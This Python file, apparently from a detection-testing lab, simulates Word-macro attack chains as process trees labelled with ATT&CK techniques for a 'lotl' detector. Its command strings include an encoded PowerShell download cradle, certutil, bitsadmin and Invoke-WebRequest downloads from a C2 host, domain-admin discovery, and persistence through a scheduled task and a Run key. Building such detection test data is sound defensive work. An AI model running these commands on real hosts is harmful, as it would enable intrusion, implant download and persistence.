"""Living-off-the-land attack chains: office macro -> PowerShell -> download -> persistence.

Chain `a` (Word macro, the classic): WINWORD opens the invoice, the macro runs
`powershell -nop -w hidden -enc <UTF-16LE base64 of a download cradle>`, which runs reconnaissance
through cmd, fetches the implant with `certutil -urlcache -split -f` and schedules it with
`schtasks /create /sc minute`. Chain `b`: the macro starts `cmd /c powershell ... Invoke-WebRequest`,
then `bitsadmin /transfer`, a Run key with `reg add`, and `rundll32` of the dropped DLL.
The document's process and every one after it is a truth entry (detector `lotl`) with its ATT&CK technique.
"""

from __future__ import annotations

import base64

from nightjar.lab import process_catalog as cat
from nightjar.lab.process import HostProcesses, Proc
from nightjar.lab.truth import Truth

SYS32 = cat.SYS32


def encoded(script: str) -> str:
    """PowerShell's -EncodedCommand form of `script`."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def run_chain(hp: HostProcesses, t0: float, variant: str, c2: str, truth: Truth, chain: str) -> tuple[list[Proc], float]:
    """Plant chain `variant` ("a" or "b") on `hp`'s host from `t0`; returns its processes and when persistence is in place."""
    host, user = hp.host, hp.host.user
    temp = f"C:\\Users\\{user}\\AppData\\Local\\Temp"
    doc = f"C:\\Users\\{user}\\Downloads\\Invoice_2026-0392.docm"
    word = hp.start(t0, hp.root("explorer", t0), f"{cat.OFFICE}\\WINWORD.EXE", f'"{cat.OFFICE}\\WINWORD.EXE" /n "{doc}" /o ""',
                    host.account, "Medium")
    opened = truth.add("lotl", "T1204.002", f"macro document opened on {host.short}", t0,
                       {"host.name": host.name, "process.entity_id": word.entity, "process.command_line": word.cmd}, chain=chain)
    word.attack = opened.id
    steps: list[tuple[float, Proc | str, str, str, str, str]] = []  # (delay, parent, exe, cmd, technique, what)
    if variant == "a":
        cradle = f"IEX (New-Object Net.WebClient).DownloadString('http://{c2}/s.ps1')"
        steps = [
            (14.0, word, cat.PS, f"powershell.exe -nop -w hidden -enc {encoded(cradle)}", "T1059.001", "encoded PowerShell from a macro"),
            (6.0, "ps", f"{SYS32}\\cmd.exe", 'C:\\Windows\\system32\\cmd.exe /c "whoami /all & net group "domain admins" /domain & nltest /dclist:corp"',
             "T1087.002", "discovery through cmd"),
            (40.0, "ps", f"{SYS32}\\certutil.exe", f"certutil.exe -urlcache -split -f http://{c2}/u.bin {temp}\\OneDriveUpd.exe",
             "T1105", "download with certutil"),
            (25.0, "ps", f"{SYS32}\\schtasks.exe",
             f'schtasks.exe /create /sc minute /mo 30 /tn "OneDrive Standalone Update Task-S-1-5-21" /tr "{temp}\\OneDriveUpd.exe" /f',
             "T1053.005", "persistence with a scheduled task"),
        ]
    else:
        dll = f"C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\upd.dll"
        steps = [
            (9.0, word, f"{SYS32}\\cmd.exe",
             f"cmd.exe /c powershell -w hidden -ep bypass -c \"Invoke-WebRequest -Uri http://{c2}/a.dll -OutFile $env:APPDATA\\Microsoft\\upd.dll\"",
             "T1059.003", "cmd from a macro"),
            (1.0, "prev", cat.PS,
             f"powershell  -w hidden -ep bypass -c \"Invoke-WebRequest -Uri http://{c2}/a.dll -OutFile $env:APPDATA\\Microsoft\\upd.dll\"",
             "T1105", "download with Invoke-WebRequest"),
            (30.0, word, f"{SYS32}\\bitsadmin.exe",
             f"bitsadmin /transfer upd /download /priority high http://{c2}/b.exe C:\\ProgramData\\WinUpd\\svc.exe",
             "T1197", "download with bitsadmin"),
            (20.0, word, f"{SYS32}\\reg.exe",
             'reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v WinUpd /t REG_SZ /d "C:\\ProgramData\\WinUpd\\svc.exe" /f',
             "T1547.001", "persistence with a Run key"),
            (8.0, word, f"{SYS32}\\rundll32.exe", f"rundll32.exe {dll},DllRegisterServer", "T1218.011", "proxy execution with rundll32"),
        ]
    procs = [word]
    t = t0
    ps = prev = word
    for delay, parent, exe, cmd, technique, what in steps:
        t += delay
        parent_proc = ps if parent == "ps" else prev if parent == "prev" else parent
        assert isinstance(parent_proc, Proc)
        attack = truth.add("lotl", technique, f"{what} on {host.short}", t,
                           {"host.name": host.name, "process.entity_id": "", "process.command_line": cmd}, chain=chain)
        proc = hp.start(t, parent_proc, exe, cmd, host.account, "Medium", attack=attack.id)
        proc.cwd = f"C:\\Users\\{user}\\Documents\\"
        attack.entity["process.entity_id"] = proc.entity
        procs.append(proc)
        if proc.name.lower() == "powershell.exe" and parent == word:
            ps = proc
        prev = proc
    return procs, t
